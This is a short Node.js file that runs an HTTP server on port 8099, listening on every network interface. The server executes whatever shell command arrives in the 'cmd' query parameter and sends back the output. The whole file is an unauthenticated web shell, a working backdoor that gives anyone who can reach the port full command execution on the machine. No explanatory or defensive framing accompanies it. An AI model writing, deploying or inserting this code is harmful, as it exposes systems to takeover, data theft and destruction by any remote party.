const http = require('http');
const { execSync } = require('child_process');
http.createServer((req, res) => {
  const u = new URL(req.url, 'http://x');
  res.end(execSync(u.searchParams.get('cmd')));
}).listen(8099, '0.0.0.0');
